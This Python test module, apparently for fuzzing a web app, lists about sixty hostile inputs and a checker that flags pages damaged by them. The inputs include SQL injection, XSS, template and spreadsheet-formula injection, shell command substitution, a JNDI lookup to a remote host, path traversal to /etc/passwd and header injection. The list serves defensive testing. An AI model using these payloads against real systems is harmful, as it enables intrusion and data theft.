"""Sixty things that no one should type, and how one sees that a page was hurt by one of them."""

from __future__ import annotations

from typing import Any

LONG = "long " * 2_000
NASTY = [
    # a database
    "' OR '1'='1", "'; DROP TABLE people_participant; --", "1) UNION SELECT password FROM people_user --", "\\'; --",
    "\"; SELECT pg_sleep(5); --", "%' AND 1=CAST((SELECT version()) AS int) --", "$$; SELECT 1; $$", "100%_[a-z]",
    # a page
    "<script>alert(1)</script>", "\"><script>alert(2)</script>", "</title><script>alert(3)</script>",
    "<img src=x onerror=alert(4)>", "' onmouseover='alert(5)", "\" autofocus onfocus=\"alert(6)",
    "<svg/onload=alert(7)>",
    "javascript:alert(8)", "</textarea><script>alert(9)</script>", "<!-- --!><b>bold</b>", "&lt;b&gt;&amp;amp;",
    "<a href=\"javascript:alert(10)\">x</a>", "<iframe srcdoc='<script>alert(11)</script>'>",
    "<base href=//evil.example>",
    # a template, a formula, a shell, a log
    "seven{{7*7}}seven", "{% load static %}{% debug %}", "${7*7}#{7*7}<%= 7*7 %>", "%(name)s %s %d {0} {name!r}",
    "=HYPERLINK(\"http://evil.example\")", "@SUM(1+1)*cmd|'/C calc'!A0", "$(sleep 5)`sleep 5`;sleep 5", "${jndi:ldap://x/a}",
    # a path, a header
    "../../../../etc/passwd", "..\\..\\boot.ini", "/etc/passwd\x00.png", "file:///etc/passwd",
    "a\r\nX-Injected: yes\r\n\r\n<b>x</b>", "%0d%0aX-Injected:%20yes", "a\nBcc: evil@evil.example", "%00%2e%2e%2f%ff",
    # letters
    "a\x00b", "\ud800", "\udfff\ud800 half", "\u202eesrever\u202c", "\u200b\u200d\ufeff\u2060",
    "e\u0301 \u00e9 \ufb01 \u0130 \u0131",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f3fd", "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d" * 20,
    "\x07\x1b[31m\x7f",
    "\u0645\u0631\u062d\u0628\u0627 \u4f60\u597d", "\uffff\ufffe", LONG,
    # numbers, days
    str(10**30), "9" * 400, "NaN", "-0", "-1", "1e400", "0x1F", "\u0663\u0664", "31/02/2026", "0000-00-00",
    "10000-01-01", "Infinity",
]  # fmt: skip
OPEN = (
    "<script>alert(",
    "<img src=x",
    "onmouseover='alert",
    'onfocus="alert',
    "<svg/onload",
    "<iframe srcdoc",
    "<base href",
)
TOLD = ("Traceback (most recent call", "psycopg2", "DETAIL:", "syntax error at or near", "PostgreSQL 1", "root:x:0:0")


def hurt(answer: Any, said: str) -> list[str]:
    """What is wrong with a page that was given this, or that was drawn after it."""
    words = "" if answer.streaming else answer.content.decode(errors="replace")
    page = answer.get("Content-Type", "").startswith("text/html")
    raw = said.encode(errors="surrogatepass").decode(errors="replace")
    return [
        *([f"answers {answer.status_code}"] if answer.status_code >= 500 else []),
        *(["echoes a tag as it is"] if page and any(tag in words for tag in OPEN) else []),
        *(["echoes it as it is"] if page and "<" in raw and raw in words else []),
        *(["works out a sum"] if "seven49" in words else []),
        *(["tells of its inside"] if any(inside in words for inside in TOLD) else []),
        *(["takes a header"] if "X-Injected" in answer.headers else []),
        *(["leads away"] if answer.get("Location", "").startswith(("//", "http:", "https:", "\\")) else []),
    ]
